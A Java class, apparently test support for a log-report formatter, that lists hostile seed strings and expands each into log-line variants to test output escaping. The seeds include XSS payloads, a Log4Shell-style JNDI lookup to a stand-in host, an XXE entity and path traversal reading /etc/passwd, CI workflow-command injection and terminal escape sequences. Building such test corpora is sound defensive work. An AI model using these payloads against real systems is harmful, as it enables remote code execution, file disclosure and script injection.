package io.streamsmonitor.report.format;

import java.util.ArrayList;
import java.util.List;

/** What a service may log, by mistake or not: over 200 lines that some format would obey. */
public final class HostileLines {
  private static final List<String> SEEDS =
      List.of(
          "<script>alert(1)</script>",
          "</details><img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "' onmouseover='alert(1)",
          "<!-- never closed",
          "]]><![CDATA[",
          "&lt;b&gt;&amp;",
          "a | b | c |",
          "\\| \\\\| \\",
          "`` ` ``` ```` unbalanced `",
          "```\n# heading\n```",
          "~~~~~\ntext",
          "# heading",
          "- list\n- item",
          "1. one",
          "+ plus",
          "> quote",
          "===\n---\n***",
          "| a | b |\n|---|---|\n| c | d |",
          "[click](http://evil.example)",
          "![img](https://evil.example/x.png)",
          "[ref]: http://evil.example 'x'",
          "<http://evil.example>",
          "www.evil.example me@evil.example @octocat #123 GH-7",
          "$x^2$ $$y$$ `$z$`",
          "**bold** __bold__ *it* _it_ ~~gone~~",
          "\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
          "\u0000\u0001\u0008\u007f\u009b31m",
          "\u202Egnp.exe\u202C \u2066x\u2069 \u200B\uFEFF",
          "line\r\nbreak\rreturn\u2028sep\u2029par\u0085nel",
          "lone \ud800 surrogate \udc00 \uFFFE\uFFFF",
          "%3Cscript%3E javascript:alert(1) data:text/html,x",
          "::error file=x::boom\n::set-output name=a::b",
          "{{7*7}} ${jndi:ldap://evil.example} <%= 1 %>",
          "    indented code",
          "\t tab",
          "::add-mask::secret\r\n::stop-commands::x",
          "%0A::error::boom %25 %0D",
          "graph LR; A-->B; click A href \"javascript:alert(1)\"",
          "```mermaid\ngraph LR\nA-->B\n```",
          "\"} 1\n# EOF\nevil{a=\"b\\",
          "{\"type\":\"session\"}\n{\"findingId\":\"X\"}",
          "\",\"ruleId\":\"x",
          "]]></failure></testcase><testcase name='x'/>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
          "<?xml version='1.0'?><?php echo 1 ?>",
          "file:///etc/passwd ../../../etc/passwd C:\\Windows",
          "</style><style>*{display:none}</style>",
          "<meta http-equiv=refresh content=0;url=http://evil.example>",
          "<base href=http://evil.example><link rel=stylesheet href=//evil.example/x>");

  private HostileLines() {}

  /** Each seed alone, in a usual log line, between other words, many times, and as markup ends. */
  public static List<String> all() {
    List<String> lines = new ArrayList<>();
    for (String seed : SEEDS) {
      lines.add(seed);
      lines.add("2026-11-23 20:00:01.000 ERROR [main] c.e.Pay - " + seed + " (order 17)");
      lines.add("a" + seed + "b");
      lines.add(seed + " | " + seed + "\n" + seed);
      lines.add((seed + " ").repeat(30));
    }
    return List.copyOf(lines);
  }
}
